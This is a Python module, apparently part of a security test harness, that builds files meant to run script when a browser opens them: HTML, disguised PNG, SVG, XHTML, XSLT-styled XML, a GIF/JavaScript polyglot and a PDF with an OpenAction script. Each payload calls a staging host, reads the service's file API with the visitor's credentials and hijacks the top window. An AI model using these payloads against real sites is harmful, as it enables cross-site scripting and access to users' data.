"""Files that try to act when a browser shows them, and what each tries.

Each calls home (`/ran?by=…` at the stage), reads the API of the service with whatever its visitor
may, and moves the window that it is in.
"""

from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

CONTROL: Final = "control-"
"""Begins the names of files that are served carelessly, to show that they are able to act."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, and the type under which a careless server would send it."""

    name: str
    content: bytes
    careless_type: str


def code(stage: str, service: str, by: str) -> str:
    """Return the script that every file carries, without `<`, `&` and double quotes.

    A file that is to show that it can run leaves the window in its place.
    """
    moved = "" if by.startswith(CONTROL) else f"top.location='{stage}/ran?by=moved-{by}'"
    return (
        f"fetch('{stage}/ran?by={by}',{{mode:'no-cors'}});"
        f"fetch('{service}/api/files',{{credentials:'include'}}).then(a=>a.text())"
        f".then(t=>fetch('{stage}/ran?by={by}-has-read',{{mode:'no-cors'}}));"
        f"try{{if(self.top!==self){{{moved}}}}}catch(e){{}}"
    )


def files(stage: str, service: str, kind: str = "") -> list[Hostile]:
    """Return the files that run by themselves where a server lets them."""

    def script(by: str) -> str:
        return code(stage, service, kind + by)

    html = f"<!doctype html><title>x</title><script>{script('html')}</script>"
    disguised = f'<html><body><img src="x:" onerror="{script("png")}"></body></html>'
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" '
        f'onload="{script("svg")}"><script>{script("svg")}</script>'
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="x:" onerror="{script("svg")}"/></body></foreignObject></svg>'
    )
    xhtml = (
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>'
        f"</head><body><script>{script('xhtml')}</script></body></html>"
    )
    sheet = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>'
        f"{script('xslt')}</script></html></xsl:template></xsl:stylesheet>"
    )
    xml = (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" '
        f'href="data:text/xml,{quote(sheet)}"?><x xmlns:h="http://www.w3.org/1999/xhtml">'
        f"<h:script>{script('xml')}</h:script></x>"
    )
    return [
        Hostile("page.html", html.encode(), "text/html"),
        Hostile("photo.png", disguised.encode(), "text/html"),
        Hostile("picture.svg", svg.encode(), "image/svg+xml"),
        Hostile("page.xhtml", xhtml.encode(), "application/xhtml+xml"),
        Hostile("sheet.xml", xml.encode(), "text/xml"),
    ]


def scripts(stage: str, service: str, kind: str = "") -> list[Hostile]:
    """Return the files that a page elsewhere would load as its scripts, workers and modules."""
    plain = code(stage, service, f"{kind}js")
    gif = f"GIF89a=1;{code(stage, service, f'{kind}gif')}"
    return [
        Hostile("code.js", plain.encode(), "text/javascript"),
        Hostile("picture.gif", gif.encode(), "text/javascript"),
    ]


def document(stage: str) -> Hostile:
    """Return a PDF that has a script, and an address, to be opened with it."""
    objects = (
        "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>>>",
        f"<</S/JavaScript/JS(app.launchURL('{stage}/ran?by=pdf');"
        f"this.submitForm('{stage}/ran?by=pdf'))>>",
        f"<</S/URI/URI({stage}/ran?by=pdf)>>",
    )
    body, offsets = "%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += f"{number} 0 obj{content}endobj\n"
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    body += f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n0\n%%EOF"
    return Hostile("paper.pdf", body.encode(), "application/pdf")
